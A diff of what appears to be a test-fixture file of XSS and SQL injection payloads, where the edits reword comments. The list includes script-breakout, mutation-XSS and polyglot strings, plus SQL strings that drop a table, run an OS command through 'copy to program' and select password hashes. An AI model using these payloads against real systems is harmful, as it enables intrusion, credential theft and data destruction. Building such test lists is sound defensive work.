@@ -1,9 +1,9 @@
 /**
- * Injection payloads by their public classes. Each is short enough for most fields. A payload that works does no harm: it calls
- * `alert` or leaves `sql_canary` in the database.
+ * Injection payloads, grouped by their public classes. Each is short enough for most fields. A working script payload usually calls
+ * `alert`. A working SQL payload may destroy data, so use them only on a test's database.
  */
 
-/** Script payloads that a page must show and never run (QUALITY: 120). */
+/** Script payloads that a page must show and must never run (QUALITY: 120). */
 export const SCRIPTS: readonly string[] = [
   // Elements that run scripts without an event.
   '<script>alert(1)</script>',
@@ -96,7 +96,7 @@ export const SCRIPTS: readonly string[] = [
   '<form action=//xss.test><input name=x>',
   '[x](javascript:alert(1))',
   '![x](x"onerror="alert(1))',
-  // Breaking out of an attribute.
+  // Payloads that break out of an attribute.
   '"onmouseover="alert(1)',
   "'onmouseover='alert(1)",
   '" autofocus onfocus=alert(1) x="',
@@ -104,21 +104,21 @@ export const SCRIPTS: readonly string[] = [
   "'><svg onload=alert(1)>",
   '`><script>alert(1)</script>',
   '"/><script>alert(1)</script>',
-  // Breaking out of a script.
+  // Payloads that break out of a script.
   '";alert(1);//',
   "';alert(1);//",
   '\\";alert(1);//',
   '`$\u007balert(1)}`',
   '</script><svg onload=alert(1)>',
   '\u2028alert(1)\u2029',
-  // Mutation XSS: harmless to a sanitizer, but the parser changes the structure.
+  // Mutation XSS: a sanitizer considers the payload harmless, but the parser changes its structure.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<math><mi><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
   '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
   '<template><script>alert(1)</script></template>',
   '<xmp><p title="</xmp><svg/onload=alert(1)>">',
   '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
-  // Encoded once or twice, full-width, or with invisible characters.
+  // Payloads that are encoded once or twice, full-width, or contain invisible characters.
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
   '%3Csvg%20onload%3Dalert(1)%3E',
@@ -145,12 +145,12 @@ export const SCRIPTS: readonly string[] = [
   'constructor',
   'toString',
   '{"__proto__":{"isAdmin":true}}',
-  // Polyglots.
+  // Polyglots: payloads that work in several contexts.
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(alert(1))//',
   '\'">><svg/onload=alert(1)>//--!>',
 ];
 
-/** SQL payloads that a statement must treat as values (QUALITY: 50). One that works sleeps, reveals data or leaves `sql_canary`. */
+/** SQL payloads that a statement must treat as values (QUALITY: 50). A working payload sleeps, reveals data or changes the database. */
 export const STATEMENTS: readonly string[] = [
   // Quotes.
   "'",
@@ -184,17 +184,17 @@ export const STATEMENTS: readonly string[] = [
   '1; drop table team',
   "'; copy account to program 'id'; --",
   "'; set session authorization postgres; --",
-  // Rows of other tables by `union`.
+  // Payloads that read other tables with `union`.
   "' union select null --",
   "' union all select version() --",
   "' union select password_hash from account --",
   '-1 union select 1,2,3',
-  // Time-based.
+  // Payloads that reveal data by the response time.
   "' or pg_sleep(30) is null --",
   "'; select pg_sleep(30); --",
   "'||(select pg_sleep(30))||'",
   '(select 1 from pg_sleep(30))',
-  // Error-based.
+  // Payloads that reveal data by error messages.
   "' and 1=cast(version() as int) --",
   "' and extractvalue(1,user()) --",
   '1/0',
